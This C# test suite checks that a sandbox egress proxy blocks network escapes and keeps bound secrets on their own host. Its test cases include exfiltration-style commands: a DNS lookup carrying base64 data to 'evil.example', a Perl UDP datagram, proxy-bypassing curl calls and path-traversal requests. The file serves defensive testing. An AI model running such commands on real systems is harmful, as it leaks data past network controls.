using System.IO.Pipelines;
using System.Net;
using System.Net.Sockets;
using System.Text;
using Aegis.Core.Runs;
using Aegis.Sandbox.Egress;
using Aegis.Sandbox.Tests.Kinds;
using Aegis.Tests.Shared;

namespace Aegis.Sandbox.Tests.Egress;

[Collection("sandbox")]
public sealed class NamespaceEgressTests(SandboxFixture sandbox) : KindEgressTests(sandbox);

[Collection("container")]
[Trait("Category", "Slow")]
public sealed class ContainerEgressTests(ContainerFixture container) : KindEgressTests(container);

[Collection("microvm")]
[Trait("Category", "Slow")]
public sealed class MicrovmEgressTests(MicrovmFixture vm) : KindEgressTests(vm);

/// <summary>Tries to get out of a sandbox with a proxy, the same ones behind each kind's walls. Each try is
/// shown to work where the wall is not.</summary>
public abstract class KindEgressTests(IProxiedFixture kind)
{
    private const string Secret = "s3cr3t-value-that-stays-outside";
    private const string Placeholder = "AEGIS_SECRET_0123456789abcdef";
    private const string Status = "curl -sS --max-time 20 -o /dev/null -w '%{http_code} ' ";

    /// <summary>What the proxy's address names, asked for without the proxy.</summary>
    private string FarEnd => new Uri(kind.Proxy).Host;

    [Fact]
    public async Task Command_WithAnAllowedHost_ReachesItThroughTheProxyAlone()
    {
        await using var server = new LoopbackServer(_ => LoopbackServer.Ok("hello from outside"));
        var entry = $"site.example:{server.Port}";
        await using var proxied = await ProxiedSandbox.OpenAsync(kind, entry);
        var past = $"curl -sS --max-time 20 --noproxy '*' --connect-to ::ADDRESS: http://{entry}/";
        string Past(string address) => past.Replace("ADDRESS", address, StringComparison.Ordinal);
        var (ran, facts) = await proxied.RunAsync([entry], "sh", "-c",
            $"curl -sS http://{entry}/a; echo; {Past("127.0.0.1")} || echo closed; "
            + $"{Past(FarEnd)} || echo closed");
        Assert.Equal((0, "hello from outside\nclosed\nclosed"), (ran.Exit, ran.Stdout));
        var fact = Assert.Single(facts);
        Assert.Equal(new EgressFact("site.example", server.Port, "GET", entry, null, 1, 0, 0),
            fact with { BytesOut = 0, BytesIn = 0 });
        Assert.True(fact is { BytesOut: > 20, BytesIn: > 18 }, $"{fact}");
        Assert.EndsWith("out of it only by the egress proxy (1 entries)",
            ran.Outcome.Walls.Single(w => w.Wall == "network").Mechanism, StringComparison.Ordinal);
        // a command without entries finds nobody where the proxy would be
        var none = await proxied.RunAsync((ProxyNetwork?)null, "sh", "-c",
            $"curl -sS --max-time 20 -x {kind.Proxy} http://{entry}/ || echo closed");
        Assert.Equal("closed", none.Ran.Stdout);
        Assert.Single(server.Asked);
        // the control: past the proxy goes where there is no wall
        var outside = await SandboxFixture.OnHostAsync(
            kind.Launcher, "/", "sh", "-c", Past("127.0.0.1"));
        Assert.Equal("hello from outside", outside.Stdout);
    }

    [Fact]
    public async Task Requests_AreJudgedByHostMethodAndPath()
    {
        await using var server = new LoopbackServer(_ => LoopbackServer.Ok());
        var (site, evil) = ($"site.example:{server.Port}", $"evil.example:{server.Port}");
        await using var proxied = await ProxiedSandbox.OpenAsync(kind, site, evil);
        var act = $"{Status} http://{site}/a/x; {Status} -X POST http://{site}/a/x; "
            + $"{Status} http://{site}/b; {Status} http://{site}/a/../b --path-as-is; "
            + $"{Status} http://{evil}/a/x; curl -s http://{evil}/";
        var (ran, facts) = await proxied.RunAsync([$"GET {site}/a/*"], "sh", "-c", act);
        Assert.StartsWith("200 403 403 403 403 {\"code\":\"AEGIS2161\"", ran.Stdout,
            StringComparison.Ordinal);
        Assert.Contains("\"mend\":", ran.Stdout, StringComparison.Ordinal);
        Assert.Equal(5, facts.Where(fact => fact.Denied == "AEGIS2161").Sum(fact => fact.Count));
        Assert.Single(server.Asked);
        var control = await proxied.RunAsync([site, evil], "sh", "-c", act);
        Assert.Equal("200 200 200 200 200", control.Ran.Stdout);
    }

    [Fact]
    public async Task Connect_ToThePrivateNetwork_NeedsTheAdministrator()
    {
        await using var server = new LoopbackServer(_ => LoopbackServer.Ok());
        await using var secure = new TlsServer("tls.example");
        string[] entries = [server.Entry, $"127.0.0.1:{secure.Port}"];
        string[] act = ["sh", "-c", $"{Status} --noproxy '' -x {kind.Proxy} http://{entries[0]}/; "
            + $"curl -sk --max-time 20 -o /dev/null -w '%{{http_connect}}' --noproxy '' -p -x {kind.Proxy} "
            + $"https://{entries[1]}/"];
        await using var closed = await ProxiedSandbox.OpenAsync(kind);
        Assert.Equal("403 403", (await closed.RunAsync(entries, act)).Ran.Stdout);
        Assert.Equal((0, 0), (server.Asked.Count, secure.Connections));
        await using var open = await ProxiedSandbox.OpenAsync(kind, entries);
        Assert.Equal("200 200", (await open.RunAsync(entries, act)).Ran.Stdout);
        Assert.Equal((1, 1), (server.Asked.Count, secure.Connections));
    }

    [Fact]
    public async Task Names_AreNotLookedUpInside()
    {
        using var listener = new UdpClient(new IPEndPoint(IPAddress.Loopback, 0));
        var port = ((IPEndPoint)listener.Client.LocalEndPoint!).Port;
        string Send(string address) => "use Socket; socket(S, PF_INET, SOCK_DGRAM, 17);"
            + $" send(S, \"c2VjcmV0\", 0, pack_sockaddr_in({port}, inet_aton(\"{address}\")))";
        await using var proxied = await ProxiedSandbox.OpenAsync(kind);
        var (ran, _) = await proxied.RunAsync(["*.example"], "sh", "-c",
            $"getent hosts c2VjcmV0.evil.example; echo $?; [ -e /etc/resolv.conf ] || echo none;"
            + $" perl -e '{Send("127.0.0.1")}'; perl -e '{Send(FarEnd)}'");
        Assert.Equal("2\nnone", ran.Stdout);
        Assert.Equal(0, listener.Available);
        // the control: the same datagram from the host arrives
        await SandboxFixture.OnHostAsync(kind.Launcher, "/", "perl", "-e", Send("127.0.0.1"));
        Assert.Equal("c2VjcmV0", Encoding.ASCII.GetString((await listener.ReceiveAsync()).Buffer));
    }

    [Fact]
    public async Task ServerName_OtherThanTheTunnels_EndsIt()
    {
        await using var server = new TlsServer("tls.example");
        var entry = $"tls.example:{server.Port}";
        await using var proxied = await ProxiedSandbox.OpenAsync(kind, entry);
        string Ask(string name) => "printf 'GET / HTTP/1.1\\r\\n\\r\\n' | openssl s_client -quiet "
            + $"-proxy {new Uri(kind.Proxy).Authority} -connect {entry} -servername {name} "
            + $"2>&1 | grep -c 'unrecognized name';";
        var (ran, facts) = await proxied.RunAsync([entry], "sh", "-c",
            Ask("other.example") + Ask("tls.example"));
        Assert.Equal("1\n0", ran.Stdout);
        Assert.Equal(1, server.Connections);
        Assert.Equal([null, "AEGIS3105"], facts.Select(fact => fact.Denied).Order());
    }

    [Fact]
    public async Task HandOver_LeavesNothingInside()
    {
        await using var proxied = await ProxiedSandbox.OpenAsync(kind);
        var (ran, _) = await proxied.RunAsync(["a.example"], "sh", "-c",
            "ls -l /proc/1/fd /proc/self/fd 2>/dev/null | grep -c socket;"
            + " cat /proc/[0-9]*/comm | grep -c perl; echo $https_proxy $no_proxy");
        Assert.Equal($"0\n0\n{kind.Proxy} localhost,127.0.0.1,::1", ran.Stdout);
    }

    [Fact]
    public async Task Command_ThatEndsAtOnce_OrIsStopped_StillTellsWhatItAsked()
    {
        var asked = new TaskCompletionSource(TaskCreationOptions.RunContinuationsAsynchronously);
        await using var server = new LoopbackServer(_ =>
        {
            asked.TrySetResult();
            return null;
        });
        var entry = $"site.example:{server.Port}";
        await using var proxied = await ProxiedSandbox.OpenAsync(kind, entry);
        Assert.Equal(0, (await proxied.RunAsync([entry], "true")).Ran.Exit);
        // ends when it is told to: while its request, which the server has, still waits
        var typed = new Pipe();
        var running = proxied.RunAsync(kind.Proxied("sh", "-c",
            $"curl -s http://{entry}/ & read -r x; kill -9 $!; wait") with
        {
            Network = new ProxyNetwork([entry], new EgressLimits()),
        }, typed.Reader.AsStream());
        await Task.WhenAny(asked.Task, running);
        await typed.Writer.WriteAsync("end\n"u8.ToArray());
        var (ran, facts) = await running;
        Assert.Equal(1, Assert.Single(facts).Count);
        Assert.Single(server.Asked);
        Assert.NotNull(ran.Exit);
    }

    [Fact]
    public async Task OwnServer_OnLoopbackInside_IsReachedWithoutTheProxy()
    {
        await using var proxied = await ProxiedSandbox.OpenAsync(kind);
        var (ran, facts) = await proxied.RunAsync(["a.example"], "sh", "-c",
            "perl -MSocket -e 'socket(S, PF_INET, SOCK_STREAM, 6);"
            + " bind(S, pack_sockaddr_in(8080, INADDR_LOOPBACK));"
            + " listen(S, 1); open(F, \">/tmp/up\"); close F; accept(C, S);"
            + " sysread C, $x, 999; syswrite C, \"HTTP/1.0 200 OK\\r\\n\\r\\nmine\"' &"
            + " until [ -e /tmp/up ]; do :; done;"
            + " curl -s http://127.0.0.1:8080/");
        Assert.Equal("mine", ran.Stdout);
        Assert.Empty(facts);
    }

    [Fact]
    public async Task ManyConnectionsAtOnce_AndALargeAnswer_ComeWhole()
    {
        const int large = 3_000_000;
        var body = new string('x', large);
        await using var server = new LoopbackServer(head => LoopbackServer.Ok(
            head.StartsWith("GET /large", StringComparison.Ordinal) ? body : "small"));
        var entry = $"site.example:{server.Port}";
        await using var proxied = await ProxiedSandbox.OpenAsync(kind, entry);
        var (ran, facts) = await proxied.RunAsync([entry], "sh", "-c",
            $"curl -s http://{entry}/large | wc -c; "
            + $"seq 24 | xargs -P 24 -I{{}} curl -s http://{entry}/{{}} | grep -o small | wc -l");
        Assert.Equal($"{large}\n24", ran.Stdout);
        var fact = Assert.Single(facts);
        Assert.Equal(25, fact.Count);
        Assert.InRange(fact.BytesIn, large, large + 25_000);
    }

    [Fact]
    public async Task Secret_ThatIsBound_GoesToItsHostAlone_BothWays()
    {
        await using var server = new TlsServer("api.example");
        await using var other = new LoopbackServer(_ => LoopbackServer.Ok("unbound"));
        var (bound, unbound) = ($"api.example:{server.Port}", $"other.example:{other.Port}");
        await using var proxied = await ProxiedSandbox.OpenAsync(kind, [server.Authority], [bound, unbound]);
        var network = new ProxyNetwork([bound, unbound], new EgressLimits(),
            new FixedSecrets("api.example", new BoundSecret(Placeholder, Secret))) { OpensTls = true };
        const string key = "-H \"X-Key: $AEGIS_SECRET_0\"";
        var act = $"curl -sS {key} http://{bound}/plain; curl -sS {key} https://{bound}/opened; "
            + $"curl -sS {key} http://{unbound}/; env; cat /run/egress-ca.pem";
        var (ran, facts) = await proxied.RunAsync(network, "sh", "-c", act);
        Assert.Equal(["GET /plain", "GET /opened"], server.Heads.Select(head => head.Split(" HTTP")[0]));
        Assert.All(server.Heads, head => Assert.Contains($"X-Key: {Secret}\r\n", head,
            StringComparison.OrdinalIgnoreCase));
        Assert.Contains($"X-Key: {Placeholder}", Assert.Single(other.Asked).Head,
            StringComparison.OrdinalIgnoreCase);
        Assert.Contains($"AEGIS_SECRET_0={Placeholder}", ran.Stdout, StringComparison.Ordinal);
        Assert.Contains("-----BEGIN CERTIFICATE-----", ran.Stdout, StringComparison.Ordinal);
        Assert.DoesNotContain(Secret, ran.Stdout + ran.Stderr, StringComparison.Ordinal);
        Assert.DoesNotContain('\0', ran.Stdout);
        Assert.All(facts, fact => Assert.Null(fact.Denied));
        // the control: a client that does not read the authority's file gets no further than the tunnel
        var (untrusting, _) = await proxied.RunAsync(network, "sh", "-c",
            $"unset CURL_CA_BUNDLE SSL_CERT_FILE; curl -sS {key} https://{bound}/ || echo untrusted");
        Assert.EndsWith("untrusted", untrusting.Stdout, StringComparison.Ordinal);
        Assert.Equal(2, server.Heads.Count);
    }
}
